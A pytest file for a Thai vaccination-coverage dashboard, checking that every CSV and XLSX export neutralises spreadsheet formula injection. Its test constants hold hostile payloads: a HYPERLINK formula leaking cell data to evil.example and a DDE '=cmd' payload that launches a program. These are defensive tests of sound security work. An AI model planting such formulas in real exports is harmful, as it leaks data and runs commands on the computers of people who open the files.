"""No download of the app can run a formula in the spreadsheet that opens it (data/cells.py, "CSV injection").

Text that starts with = + - @ (or a tab or a carriage return) is planted where each export reads it — through the real
paths: facility and survey uploads, the coordinator registry, a rejected upload whose values the problem report
quotes, and area names of the boundary release (an outside data set: the coverage, statistics and template exports
show them). Then every export is fetched through Flask's test client, as the role allowed to, parsed (csv, openpyxl),
and each cell checked: none may start like a formula unless it is a number, and every planted text is still there,
whole, after the apostrophe. Each export is its own case, so forgetting the neutralisation in any one of them fails.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import time

import openpyxl
import pytest
import sqlalchemy as sa

from data.cells import FORMULA_STARTS, spreadsheet_safe
from data.schema import users

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PLUS = "+1+1"
MINUS = "-2+3"
AT = "@SUM(A1:A2)"
CMD = "=cmd|' /C calc'!A0"
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
PEOPLE = {  # username: (role, area)
    "nat": ("national_admin", "TH"),
    "padmin": ("province_admin", "50"),
    "coord": ("coordinator", "5001"),
}


# -- the function itself ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", [LINK, PLUS, MINUS, AT, "\t=1", "\r=1", "-", "@", "=", "+66 81 234 5678"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe_and_keeps_all_its_text(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 12, 1e-9, True, None, "", "ok", "a=b", " =1", "'=1", "๑๒"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value and type(spreadsheet_safe(value)) is type(value)


# -- the world the exports read -------------------------------------------------------------------------------------
def csv_bytes(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


FACILITIES = [
    ["facility_id", "type", "name_th", "name_en", "lat", "lon", "address", "phone", "opening_hours"],
    ["X-FORMULA-1", "vaccination_point", LINK, PLUS, "18.7883", "98.9853", MINUS, "+66 53 112 345", AT],
    ["=2+2", "hospital", AT, MINUS, "18.7950", "98.9700", "\t=1", "053 112 345", CMD],
]
SURVEYS = [
    [
        "survey_date",
        "subdistrict",
        "target_group",
        "age",
        "doses_received",
        "intention",
        "reason",
        "full_name",
        "phone",
    ],
    ["20/01/2565", "500101", "elderly", "70", "0", "undecided", LINK, PLUS, "+66812345678"],
]
COVERAGE = [
    ["as_of", "area", "target_group", "dose", "vaccinated", "population"],
    ["2022-01-31", "50", "all", "1", "400000", "500000"],
    ["2022-02-28", "50", "all", "1", "300000", "500000"],  # fewer than before: the change is a negative number
    ["2022-01-31", "5001", "all", "1", "90000", "100000"],
]
BAD_FACILITIES = [  # a file the check refuses: the problem report quotes each of these values
    ["type", "name_th", "lat", "lon", "beds_total"],
    [AT, "จุดฉีด", LINK, PLUS, MINUS],
]


@pytest.fixture(scope="module")
def world(tmp_path_factory, geo_cache_dir):
    """An app on an empty database holding the planted texts; (client, tokens, state, app)."""
    from fixtures_app import create_people, make_settings

    from app import create_app
    from dashboard.state import build_state
    from data.coordinators import add_coordinator

    data_dir = tmp_path_factory.mktemp("exports-formula")
    (data_dir / "cache").symlink_to(geo_cache_dir)
    state = build_state(make_settings(data_dir))
    # names as an outside boundary release could spell them: every export showing area names reads these
    state.registry.areas.loc["50", ["name_th", "name_en"]] = [AT, LINK]
    state.registry.areas.loc["5001", "name_en"] = PLUS
    state.registry.areas.loc["500101", "name_en"] = MINUS
    tokens = create_people(state, PEOPLE)
    app = create_app(state.settings, state)
    client = app.server.test_client()
    opened = client.post(
        "/api/v1/campaigns",
        headers=auth(tokens, "nat"),
        json={"name_th": "รอบทดสอบ", "name_en": "test round", "opened_on": "2022-01-01"},
    )
    assert opened.status_code == 201, opened.get_json()
    for kind, rows, who in (
        ("facilities", FACILITIES, "nat"),
        ("surveys", SURVEYS, "coord"),
        ("coverage", COVERAGE, "nat"),
    ):
        answer = upload(client, tokens, who, kind, csv_bytes(rows))
        assert answer.status_code == 200 and answer.get_json()["new"] == len(rows) - 1, answer.get_json()
    with state.engine.begin() as conn:
        admin = dict(conn.execute(sa.select(users).where(users.c.username == "padmin")).mappings().one())
        add_coordinator(
            conn,
            state.registry,
            admin,
            "5001",
            full_name=LINK,
            position=PLUS,
            phone="+66 81 234 5678",
            email="-2+3@evil.example",
        )
    return client, tokens, state, app


def auth(tokens, name):
    return {"Authorization": f"Bearer {tokens[name]}"}


def upload(client, tokens, name, kind, content, filename="file.csv"):
    return client.post(
        f"/api/v1/uploads/{kind}",
        headers=auth(tokens, name),
        data={"file": (io.BytesIO(content), filename)},
        content_type="multipart/form-data",
    )


# -- fetching each export ------------------------------------------------------------------------------------------
def csv_cells(response) -> list[str]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv", response.mimetype
    return csv_text_cells(response.get_data().decode("utf-8-sig"))


def csv_text_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(response) -> list:
    """Every cell of every sheet; a formula cell is returned as the formula text it holds."""
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None or cell.data_type == "f"
    ]


def facilities_csv(client, tokens, state, app):
    return csv_cells(client.get("/api/v1/facilities?format=csv"))


def coverage_csv(client, tokens, state, app):
    return csv_cells(client.get("/api/v1/coverage?format=csv&metric=change&as_of=2022-02-28&compare=2022-01-31"))


def district_coverage_csv(client, tokens, state, app):
    return csv_cells(client.get("/api/v1/coverage?format=csv&province=50"))


def stats_csv(client, tokens, state, app):
    return csv_cells(client.get("/api/v1/stats/provinces?format=csv"))


def coordinators_csv(client, tokens, state, app):
    return csv_cells(client.get("/api/v1/coordinators?province=50&format=csv", headers=auth(tokens, "padmin")))


def template_xlsx(client, tokens, state, app):
    return xlsx_cells(client.get("/api/v1/templates/surveys.xlsx?area=5001"))


def template_csv(client, tokens, state, app):
    return csv_cells(client.get("/api/v1/templates/facilities.csv"))


def upload_problems_csv(client, tokens, state, app):
    """The upload page, as a coordinator's browser drives it: check a file, then download its problems (CSV)."""
    from dashboard.components import LANG_STORE
    from dashboard.pages.upload import ids as page
    from data.jobs import JobStore

    contents = "data:text/csv;base64," + base64.b64encode(csv_bytes(BAD_FACILITIES)).decode()
    answer = dash_call(
        app,
        client,
        f"{page.CHECK}.n_clicks",
        {
            f"{page.CHECK}.n_clicks": 1,
            f"{page.FILE}.contents": contents,
            f"{page.FILE}.filename": "bad.csv",
            f"{page.KIND}.value": "facilities",
            f"{LANG_STORE}.data": "en",
        },
        auth(tokens, "coord"),
    )
    job_id = answer["response"][page.JOB]["data"]["id"]
    with state.engine.connect() as conn:
        user_id = conn.execute(sa.select(users.c.id).where(users.c.username == "coord")).scalar_one()
    store, deadline = JobStore(state.settings.data_dir / "jobs"), time.monotonic() + 60
    while not (store.read(job_id, user_id) or {}).get("finished"):
        assert time.monotonic() < deadline, "the check did not finish"
        time.sleep(0.05)
    answer = dash_call(
        app,
        client,
        f"{page.DOWNLOAD_BUTTON}.n_clicks",
        {f"{page.DOWNLOAD_BUTTON}.n_clicks": 1, f"{page.DONE}.data": {"id": job_id}, f"{LANG_STORE}.data": "en"},
        auth(tokens, "coord"),
    )
    download = answer["response"][page.DOWNLOAD]["data"]
    assert download["filename"] == "bad-problems.csv"
    return csv_text_cells(download["content"].removeprefix("\ufeff"))


def dash_call(app, client, trigger: str, values: dict, headers: dict) -> dict:
    """Call the callback that ``trigger`` ("id.property") fires, the way the browser does; ``values`` by
    "id.property", the others None."""
    key = next(
        k
        for k, spec in app.callback_map.items()
        if any(f"{i['id']}.{i['property']}" == trigger for i in spec["inputs"])
    )
    spec = app.callback_map[key]
    outputs = [{"id": o.split(".")[0], "property": o.split(".", 1)[1]} for o in key.strip(".").split("...")]

    def fill(items):
        return [
            {"id": i["id"], "property": i["property"], "value": values.get(f"{i['id']}.{i['property']}")} for i in items
        ]

    payload = {
        "output": key,
        "outputs": outputs if len(outputs) > 1 else outputs[0],
        "inputs": fill(spec["inputs"]),
        "state": fill(spec.get("state", [])),
        "changedPropIds": [trigger],
    }
    response = client.post("/_dash-update-component", json=payload, headers=headers)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return json.loads(response.get_data())


# export → (how to fetch it, as whom; the planted texts it shows)
EXPORTS = {
    "facilities.csv": (facilities_csv, [LINK, PLUS, MINUS, AT, "=1", CMD, "=2+2", "+66 53 112 345"]),
    "coverage.csv (provinces, change)": (coverage_csv, [AT, LINK]),
    "coverage.csv (districts)": (district_coverage_csv, [PLUS]),
    "stats/provinces.csv": (stats_csv, [AT, LINK]),
    "coordinators.csv": (coordinators_csv, [LINK, PLUS, "+66 81 234 5678", "-2+3@evil.example", AT]),
    "upload problems.csv": (upload_problems_csv, [AT, LINK, PLUS, MINUS]),
    "template surveys.xlsx": (template_xlsx, [AT, MINUS]),
    "template facilities.csv": (template_csv, []),  # its Thai headers only: nothing planted can reach it
}


def runs_as_formula(cell) -> bool:
    if not isinstance(cell, str):
        return False  # a number, a date or a boolean of an .xlsx
    return cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)


@pytest.mark.parametrize("export", list(EXPORTS))
def test_no_cell_of_an_export_starts_like_a_formula_and_neutralised_cells_keep_their_text(export, world):
    fetch, planted = EXPORTS[export]
    cells = fetch(*world)
    assert cells, "the export is empty"
    assert [c for c in cells if runs_as_formula(c)] == []
    missing = [text for text in planted if "'" + text not in cells]
    assert missing == [], f"planted text missing from {export} (or not neutralised)"


def test_a_negative_number_stays_a_number(world):
    cells = coverage_csv(*world)
    negative = [c for c in cells if c.startswith("-")]
    assert negative and all(NUMBER.fullmatch(c) for c in negative), negative
    assert "-20.0" in cells  # 60% on 28 February, 80% on 31 January


def test_the_survey_list_is_json_and_keeps_the_text_as_written(world):
    """/api/v1/surveys (the survey records of an area, with personal data) is JSON, not a spreadsheet: the text
    comes back as it was written. Should it ever answer CSV, its cells must be as safe as every other export's."""
    client, tokens, _, _ = world
    response = client.get("/api/v1/surveys?district=5001&format=csv", headers=auth(tokens, "coord"))
    assert response.status_code == 200
    if response.mimetype == "text/csv":
        assert [c for c in csv_cells(response) if runs_as_formula(c)] == []
        return
    items = response.get_json()["items"]
    assert [(i["reason"], i["full_name"]) for i in items] == [(LINK, PLUS)]


def test_the_original_file_of_an_upload_comes_back_byte_for_byte(world):
    """The one download left as it is: the person's own file (its checksum is in the history)."""
    client, tokens, _, _ = world
    history = client.get("/api/v1/uploads?kind=facilities", headers=auth(tokens, "nat")).get_json()["items"]
    original = client.get(f"/api/v1/uploads/{history[0]['id']}/file", headers=auth(tokens, "nat"))
    assert original.status_code == 200 and original.get_data() == csv_bytes(FACILITIES)
